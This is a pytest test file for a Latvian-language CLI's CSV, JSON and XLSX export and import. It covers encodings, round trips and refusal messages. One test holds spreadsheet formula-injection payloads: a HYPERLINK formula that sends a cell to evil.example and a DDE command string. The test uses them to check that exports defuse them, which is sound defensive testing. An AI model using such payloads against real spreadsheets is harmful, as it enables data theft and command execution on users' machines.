"""``controlbot export`` and ``controlbot import``: round trips, formats and refusals (issue 7)."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import jsonschema
import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.exchange.table import HEADERS

DOCS = Path(__file__).parents[2] / "docs"
BOM = b"\xef\xbb\xbf"

LV_FILE = (
    "indicator;period;value;comment\r\n"
    'dd-within-sla;2026-10;88,5;"Sistēmas kļūme; ""DVS"" nestrādāja\r\nvisu nedēļu"\r\n'
    "dd-e-share;2026-10;71,2;Ērti, ātri, ģeniāli: ķēķis, ļoti, ņiprs, šis, ūdens, žēl\r\n"
    "dvs-availability;2026-10;99,95;\r\n"
    "dd-cost-per-case;2026-Q3;6,2;\r\n"
)


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    use_database(monkeypatch, tmp_path, "one")
    monkeypatch.delenv("CONTROLBOT_PLAN", raising=False)
    monkeypatch.delenv("CONTROLBOT_DEFAULT_LOCALE", raising=False)


def use_database(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, name: str) -> None:
    monkeypatch.setenv("CONTROLBOT_DATABASE_URL", f"sqlite:///{tmp_path / name}.sqlite3")


def read_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(BOM)
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_export_then_import_keeps_latvian_letters_and_decimal_commas(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "monitorings.csv"
    source.write_bytes(BOM + LV_FILE.encode("utf-8"))
    assert main(["import", str(source), "--source", "monitorings"]) == 0
    out = capsys.readouterr().out
    assert "Saglabāti: 4; bez izmaiņām: 0." in out
    assert "88,5% — ❌ kritisks (saglabāts)" in out

    first = tmp_path / "first.csv"
    assert main(["export", "--format", "csv", "--csv-variant", "lv", "--out", str(first)]) == 0
    exported = read_rows(first.read_bytes())
    assert [r["value"] for r in exported] == ["6,2", "88,5", "71,2", "99,95"]
    assert exported[1]["comment"] == 'Sistēmas kļūme; "DVS" nestrādāja\nvisu nedēļu'

    use_database(monkeypatch, tmp_path, "two")  # a fresh database takes the exported file
    assert main(["import", str(first)]) == 0
    assert "Saglabāti: 4" in capsys.readouterr().out
    second = tmp_path / "second.csv"
    assert main(["export", "--format", "csv", "--csv-variant", "lv", "--out", str(second)]) == 0
    again = read_rows(second.read_bytes())
    kept = ("indicator", "indicator_label", "period", "value", "comment", "source", "status")
    assert [[r[k] for k in kept] for r in again] == [[r[k] for k in kept] for r in exported]
    assert "ģeniāli: ķēķis, ļoti, ņiprs, šis, ūdens, žēl" in again[2]["comment"]

    # the Excel variant reads back too: comma-separated, decimal point
    excel = tmp_path / "excel.csv"
    assert main(["export", "--format", "csv", "--out", str(excel), "--lang", "en"]) == 0
    rows = read_rows(excel.read_bytes())
    assert [r["value"] for r in rows] == ["6.2", "88.5", "71.2", "99.95"]
    assert rows[1]["status_label"] == "critical"
    use_database(monkeypatch, tmp_path, "three")
    assert main(["import", str(excel)]) == 0
    assert "Saglabāti: 4" in capsys.readouterr().out


def test_importing_the_same_file_twice_leaves_it_unchanged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(LV_FILE.encode("utf-8"))  # no BOM: detected as UTF-8 all the same
    assert main(["import", str(source), "--source", "zabbix"]) == 0
    capsys.readouterr()
    assert main(["import", str(source), "--source", "zabbix"]) == 0
    out = capsys.readouterr().out
    assert "Saglabāti: 0; bez izmaiņām: 4." in out


def test_an_import_that_opens_a_decision_names_whom_it_could_not_tell_in_latvian(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(LV_FILE.encode("utf-8"))  # 88,5 % within the SLA: critical
    with caplog.at_level(logging.WARNING):
        assert main(["import", str(source), "--source", "zabbix"]) == 0
    out = capsys.readouterr().out.splitlines()
    told = out.index("Par importētajām vērtībām netika paziņots:")
    assert out[told + 1 :] == [
        "    • Persona Jānis Bērziņš nav sasniedzama: nav piesaistīta tērzēšanas konta — "
        "controlbot invite janis-berzins",
        "    • Kanāls “Pakalpojums: Dzīvesvietas deklarēšana” nav savienots ne ar vienu "
        "tērzēšanu: nosūtiet /bind pk-dzivesvieta tā grupā.",
    ]
    assert [r.getMessage() for r in caplog.records] == []  # no English echo of the report


def test_a_refused_file_reports_every_bad_row_and_stores_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "indicator,period,value,source\n"
        "dd-within-sla,2026-10,96.5,zabbix\n"
        "dd-within-sla,2026-10,97,zabbix\n"
        'dd-e-share,2026-10,"71,2",zabbix\n'
        "nav-tada,2026-10,1,zabbix\n"
        "dd-e-share,2026-09,120,zabbix\n",
        encoding="utf-8",
    )
    assert main(["import", str(bad)]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith("3. rinda: 2. rindā jau ir šī rādītāja vērtība")
    assert err[1].startswith("4. rinda, value: Failā, kurā lauki atdalīti ar komatiem")
    assert err[2] == "5. rinda, indicator: Plānā nav rādītāja “nav-tada”."
    assert err[3] == "6. rinda, value: Vērtība nedrīkst pārsniegt 100,0."
    assert err[4] == "Nekas netika importēts: noraidītas 4 rindas."
    empty = tmp_path / "empty.csv"
    assert main(["export", "--format", "csv", "--out", str(empty)]) == 0
    assert read_rows(empty.read_bytes()) == []
    assert capsys.readouterr().err.startswith("Nekas netika eksportēts.")


def test_a_file_without_the_needed_columns_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("rādītājs;periods\nx;2026-10\n", encoding="utf-8")
    assert main(["import", str(bad)]) == 1
    assert "Virsrakstu rindā trūkst kolonnu: indicator, period, value." in capsys.readouterr().err
    assert main(["import", str(tmp_path / "nav.csv")]) == 2
    assert main(["import", str(bad), "--source", "ar atstarpi"]) == 2
    assert "nav avota nosaukums" in capsys.readouterr().err
    good = tmp_path / "good.csv"
    good.write_text("indicator;period;value\ndd-e-share;2026-10;71\n", encoding="utf-8")
    assert main(["import", str(good), "--source", "chat"]) == 1  # kept for chat values
    assert "Avots “chat” ir paredzēts tērzēšanā" in capsys.readouterr().err


def test_excel_files_saved_in_the_baltic_code_page_are_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    legacy = tmp_path / "ansi.csv"
    legacy.write_bytes(
        "indicator;period;value;comment\r\ndd-e-share;2026-10;71,2;Ūdens, ķēķis\r\n".encode(
            "cp1257"
        )
    )
    assert main(["import", str(legacy), "--source", "excel"]) == 0
    capsys.readouterr()
    out = tmp_path / "out.json"
    assert main(["export", "--format", "json", "--out", str(out)]) == 0
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["measurements"][0]["comment"] == "Ūdens, ķēķis"


def test_a_dry_run_stores_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(LV_FILE.encode("utf-8"))
    assert main(["import", str(source), "--dry-run"]) == 0
    assert "Pārbaude: derīgas 4 rindas; nekas netika saglabāts." in capsys.readouterr().out
    out = tmp_path / "out.csv"
    assert main(["export", "--format", "csv", "--out", str(out)]) == 0
    assert read_rows(out.read_bytes()) == []


def test_json_export_follows_its_published_schema(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(LV_FILE.encode("utf-8"))
    assert main(["import", str(source)]) == 0
    out = tmp_path / "out.json"
    assert main(["export", "--format", "json", "--out", str(out), "--period", "2026-10"]) == 0
    document = json.loads(out.read_text(encoding="utf-8"))
    schema = json.loads((DOCS / "export.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(document, schema, format_checker=jsonschema.FormatChecker())
    assert document["periods"] == ["2026-10"]
    sla = document["measurements"][0]
    assert (sla["indicator"], sla["value"], sla["status"]) == ("dd-within-sla", "88.5", "critical")
    assert sla["decision"]["status"] == "open" and sla["decision"]["approver"] == "janis-berzins"
    assert sla["source"] == "import"
    assert "Sistēmas kļūme" in out.read_text(encoding="utf-8")  # letters are not \u-escaped
    broken = dict(document, measurements=[dict(sla, value="88,5")])
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, schema)


def test_xlsx_has_real_numbers_dates_a_header_and_a_frozen_pane(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(LV_FILE.encode("utf-8"))
    assert main(["import", str(source)]) == 0
    out = tmp_path / "out.xlsx"
    assert main(["export", "--format", "xlsx", "--out", str(out)]) == 0
    sheet = load_workbook(out).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    table = list(sheet.iter_rows(values_only=True))
    assert table[0] == HEADERS
    assert len(table) == 1 + 4
    record = dict(zip(HEADERS, table[2], strict=True))
    assert record["indicator_label"] == "Noteiktajā termiņā apstrādāto deklarāciju īpatsvars"
    assert record["value"] == pytest.approx(88.5) and isinstance(record["value"], float)
    assert isinstance(record["submitted_at"], datetime)
    assert isinstance(record["decide_by"], datetime)  # a date cell (Excel keeps a serial)
    value_cell = sheet.cell(row=3, column=HEADERS.index("value") + 1)
    assert value_cell.number_format == "0.0"
    assert sheet.cell(row=1, column=1).font.b
    assert Decimal(str(record["target"])) == Decimal(95)


def test_refusals_read_well_in_both_languages() -> None:
    from bot.exchange.commands import refusal_lines
    from bot.i18n import translator
    from bot.render.context import RenderContext
    from workflows.exchange import ImportResult, RowError
    from workflows.plan.loader import load_default_plan

    plan = load_default_plan(None)
    result = ImportResult(
        errors=(
            RowError(0, "row", "too_many_rows", {"max": "100000"}),
            RowError(
                7,
                "period",
                "wrong_frequency",
                {"period": "2026-Q3", "indicator": "dd-e-share", "frequency": "monthly"},
            ),
            RowError(9, "comment", "too_long", {"max": "500"}),
        )
    )
    lv = refusal_lines(result, RenderContext(translator("lv"), plan, ZoneInfo("Europe/Riga")))
    assert lv == [
        "Pārāk daudz rindu: vienā reizē var importēt ne vairāk kā 100\u00a0000.",
        "7. rinda, period: Rādītāju “Elektroniski iesniegto deklarāciju īpatsvars” mēra reizi "
        "mēnesī (2026-10); “2026-Q3” nav šāds periods.",
        "9. rinda, comment: Komentārs: Teksts ir pārāk garš: ne vairāk kā 500 rakstzīmju.",
        "Nekas netika importēts: noraidītas 2 rindas.",
    ]
    en = refusal_lines(result, RenderContext(translator("en"), plan, ZoneInfo("Europe/Riga")))
    assert en[0] == "Too many rows: at most 100,000 can be imported at once."
    assert en[-1] == "Nothing was imported: 2 rows were refused."


def test_export_to_stdout_and_import_from_stdin(
    monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    import sys

    stdin = io.TextIOWrapper(io.BytesIO(BOM + LV_FILE.encode("utf-8")), encoding="utf-8")
    monkeypatch.setattr(sys, "stdin", stdin)
    assert main(["import", "-", "--source", "pipe"]) == 0
    capsysbinary.readouterr()
    assert main(["export", "--format", "csv", "--out", "-", "--period", "2026-Q3"]) == 0
    captured = capsysbinary.readouterr()
    exported = read_rows(captured.out)
    assert [(r["indicator"], r["value"], r["source"]) for r in exported] == [
        ("dd-cost-per-case", "6.2", "pipe")
    ]
    assert "Eksportēts 1 mērījums (2026-Q3)" in captured.err.decode("utf-8")


def test_export_refuses_what_is_not_a_period(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--format", "json", "--out", "x.json", "--period", "2026-13"]) == 2
    assert "“2026-13” nav pārskata periods" in capsys.readouterr().err
    assert not (tmp_path / "x.json").exists()
    nowhere = tmp_path / "nav" / "x.csv"
    assert main(["export", "--format", "csv", "--out", str(nowhere)]) == 2
    assert capsys.readouterr().err == f"Nevar ierakstīt {nowhere}: šāda faila vai mapes nav\n"


def test_an_empty_export_names_the_one_stored_period_without_a_range_from_it_to_itself(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_text("indicator;period;value\ndvs-availability;2026-10;99,95\n", encoding="utf-8")
    assert main(["import", str(source), "--source", "zabbix"]) == 0
    capsys.readouterr()
    out = tmp_path / "sep.csv"
    assert main(["export", "--format", "csv", "--out", str(out), "--period", "2026-09"]) == 0
    assert capsys.readouterr().err.splitlines()[0] == (
        "Nekas netika eksportēts. Par 2026-09 nav saglabātu vērtību; vērtības ir saglabātas "
        "tikai par 2026-10."
    )


def test_a_missing_or_unreadable_file_is_explained_in_latvian_not_in_the_systems_english(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nav.csv"
    assert main(["import", str(missing), "--dry-run"]) == 2
    assert capsys.readouterr().err == f"Nevar nolasīt {missing}: šāda faila vai mapes nav\n"
    assert main(["import", str(tmp_path), "--dry-run"]) == 2
    assert capsys.readouterr().err == f"Nevar nolasīt {tmp_path}: tā ir mape, nevis fails\n"


def test_formula_like_comments_stay_text_in_csv_and_xlsx_and_import_back(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    source = tmp_path / "evil.csv"
    rows = [
        ("dd-within-sla", "88,5", evil),
        ("dd-e-share", "71,2", "+cmd|' /C calc'!A0"),
        ("dvs-availability", "99,95", "@SUM(1+1)"),
    ]
    text = "indicator;period;value;comment\r\n" + "".join(
        f'{i};2026-10;{v};"{c.replace(chr(34), chr(34) * 2)}"\r\n' for i, v, c in rows
    )
    source.write_bytes(BOM + text.encode("utf-8"))
    assert main(["import", str(source), "--source", "monitorings"]) == 0
    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert main(["export", "--format", "csv", "--csv-variant", "lv", "--out", str(csv_out)]) == 0
    comments = {r["indicator"]: r["comment"] for r in read_rows(csv_out.read_bytes())}
    assert comments["dd-within-sla"] == "'" + evil
    assert comments["dvs-availability"] == "'@SUM(1+1)"
    assert main(["export", "--format", "xlsx", "--out", str(xlsx_out)]) == 0
    sheet = load_workbook(xlsx_out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    column = header.index("comment")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in cells if c.value} == {"s"}  # never a formula
    assert evil in [c.value for c in cells]
    use_database(monkeypatch, tmp_path, "two")  # the defused CSV imports back unchanged
    capsys.readouterr()
    assert main(["import", str(csv_out), "--source", "monitorings"]) == 0
    again = tmp_path / "again.csv"
    assert main(["export", "--format", "csv", "--csv-variant", "lv", "--out", str(again)]) == 0
    assert {r["indicator"]: r["comment"] for r in read_rows(again.read_bytes())} == comments


def test_a_workbook_or_utf16_file_is_recognised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first = tmp_path / "first.csv"
    source = tmp_path / "in.csv"
    source.write_bytes(LV_FILE.encode("utf-8"))
    assert main(["import", str(source), "--source", "zabbix"]) == 0
    book = tmp_path / "book.xlsx"
    assert main(["export", "--format", "xlsx", "--out", str(book)]) == 0
    capsys.readouterr()
    assert main(["import", str(book), "--source", "zabbix"]) == 1
    said = capsys.readouterr()
    assert "nevis CSV fails" in said.err + said.out
    first.write_bytes(LV_FILE.encode("utf-16"))  # Excel's "Unicode text": UTF-16 with a BOM
    assert main(["import", str(first), "--source", "zabbix", "--dry-run"]) == 0
